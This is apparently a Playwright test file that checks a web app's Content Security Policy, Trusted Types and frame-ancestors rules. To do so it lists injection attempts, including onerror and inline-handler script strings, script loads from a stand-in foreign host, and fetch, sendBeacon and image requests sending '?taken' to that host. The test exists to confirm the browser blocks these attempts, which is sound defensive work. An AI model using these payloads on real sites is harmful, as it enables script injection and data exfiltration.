/** What injected text might try in a page: the browser refuses it and reports it. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { expect, test } from "#test/support/browser.ts";

const elsewhere = "https://ailleurs.exemple";

/** By the directive of the policy that each attempt violates. */
const attempts: Readonly<Record<string, readonly string[]>> = {
  "script-src-elem": [`import("${elsewhere}/x.js").catch(() => {})`],
  "require-trusted-types-for": [
    `document.body.setAttribute("onclick", "globalThis.broken = true")`,
    `document.createElement("div").innerHTML = "<img src=x onerror='globalThis.broken = true'>"`,
    `document.createElement("script").src = "${elsewhere}/x.js"`,
    `const script = document.createElement("script"); document.body.append(script); script.append("globalThis.broken = true")`,
    `new DOMParser().parseFromString("<p>", "text/html")`,
    `new Worker("/contents/x")`,
    `setTimeout("globalThis.broken = true")`,
    `document.write("<p>")`,
    `document.createElement("object").data = "${elsewhere}/x.swf"`,
  ],
  "trusted-types": [
    `trustedTypes.createPolicy("other", { createHTML: (text) => text })`,
    `trustedTypes.createPolicy("default", { createHTML: (text) => text })`,
  ],
  "style-src-elem": [
    `document.head.append(Object.assign(document.createElement("style"), { textContent: "body { display: none }" }))`,
  ],
  "style-src-attr": [`document.body.setAttribute("style", "display: none")`],
  "connect-src": [
    `fetch("${elsewhere}/?taken").catch(() => {})`,
    `navigator.sendBeacon("${elsewhere}/?taken")`,
  ],
  "img-src": [`new Image().src = "${elsewhere}/?taken"`],
  "frame-src": [
    `document.body.append(Object.assign(document.createElement("iframe"), { src: "${elsewhere}/" }))`,
  ],
  "base-uri": [
    `document.head.append(Object.assign(document.createElement("base"), { href: "${elsewhere}/" }))`,
  ],
  "form-action": [
    `const form = Object.assign(document.createElement("form"), { action: "${elsewhere}/" });
     document.body.append(form); form.submit()`,
  ],
};

/** Collects every directive that the browser reports as violated. */
function violationsIn(page: Page): Set<string> {
  const broken = new Set<string>();
  page.on("console", (message) => {
    const [word, part] = message.text().split(" ");
    if (word === "securitypolicyviolation" && part !== undefined) broken.add(part);
  });
  return broken;
}

test("foreign code is not run, loaded or sent to @desktop", async ({
  signedIn: page,
  expectedErrors,
  allowedUrls,
}) => {
  expectedErrors.push("securitypolicyviolation", "Content Security Policy", "Trusted", "ERR_BLOCKED_BY_CSP");
  // The test allows this address, because the browser also reports requests that it blocked before sending.
  allowedUrls.push(elsewhere);
  const left: string[] = [];
  await page.route(`${elsewhere}/**`, async (route) => {
    left.push(route.request().url());
    await route.abort();
  });
  for (const path of ["/invites", "/cgu"]) {
    await page.goto(path);
    await expect(page.locator("h1").first()).toBeVisible();
    const broken = violationsIn(page);
    for (const [part, scripts] of Object.entries(attempts)) {
      for (const script of scripts) {
        broken.clear();
        // It runs as a script of the page would, because the browser's own tools may do more.
        await page.evaluate(`new Promise((resolve) => {
          queueMicrotask(() => { try { ${script} } catch { } resolve(); });
        })`);
        await expect.poll(() => [...broken], script).toContain(part);
      }
    }
    expect(await page.evaluate(() => "broken" in globalThis)).toBe(false);
  }
  expect(left).toEqual([]);
});

test("no other site can show our pages in a frame @desktop", async ({
  page,
  server,
  expectedErrors,
  allowedUrls,
}) => {
  const listener = createServer((_request, reply) => {
    const frames = ["/login", "/mariage"].map((path) => `<iframe src="${server.url}${path}"></iframe>`);
    reply.writeHead(200, { "content-type": "text/html" }).end(`<title>x</title>${frames.join("")}`);
  });
  await new Promise<void>((resolve) => {
    listener.listen(0, "127.0.0.1", resolve);
  });
  const url = `http://localhost:${(listener.address() as AddressInfo).port}/`;
  allowedUrls.push(url);
  expectedErrors.push("frame-ancestors", "status of 401");
  const refused: string[] = [];
  page.on("console", (message) => {
    if (message.text().includes("frame-ancestors 'none'")) refused.push(message.text());
  });
  await page.goto(url);
  await expect.poll(() => refused.length).toBe(2);
  listener.close();
});
